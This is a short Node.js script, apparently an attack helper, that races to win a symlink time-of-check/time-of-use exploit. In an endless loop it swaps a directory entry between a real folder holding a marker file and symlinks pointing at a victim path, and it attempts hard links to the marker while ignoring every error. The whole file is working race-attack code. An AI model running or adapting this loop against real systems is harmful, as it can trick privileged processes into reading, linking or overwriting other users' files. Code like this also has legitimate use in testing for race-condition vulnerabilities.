/** Swaps, as fast as it can, what `in` in the directory OWN is: a directory with a marker of any kind, or a link to VICTIM. */
import { linkSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";

const [own, victim] = process.argv.slice(2) as [string, string];
const attempt = (act: () => void): void => {
  try {
    act();
  } catch {}
};
console.log("swapping");
for (let turn = 0; ; turn++) {
  attempt(() => rmSync(`${own}/in`, { recursive: true, force: true }));
  attempt(() => {
    if (turn % 3 === 0) return symlinkSync(victim, `${own}/in`);
    mkdirSync(`${own}/new`);
    if (turn % 3 === 1) symlinkSync(`${victim}/marker`, `${own}/new/marker`);
    else writeFileSync(`${own}/new/marker`, "{}");
    renameSync(`${own}/new`, `${own}/in`);
  });
  attempt(() => linkSync(`${own}/in/marker`, `${own}/in/other`));
}
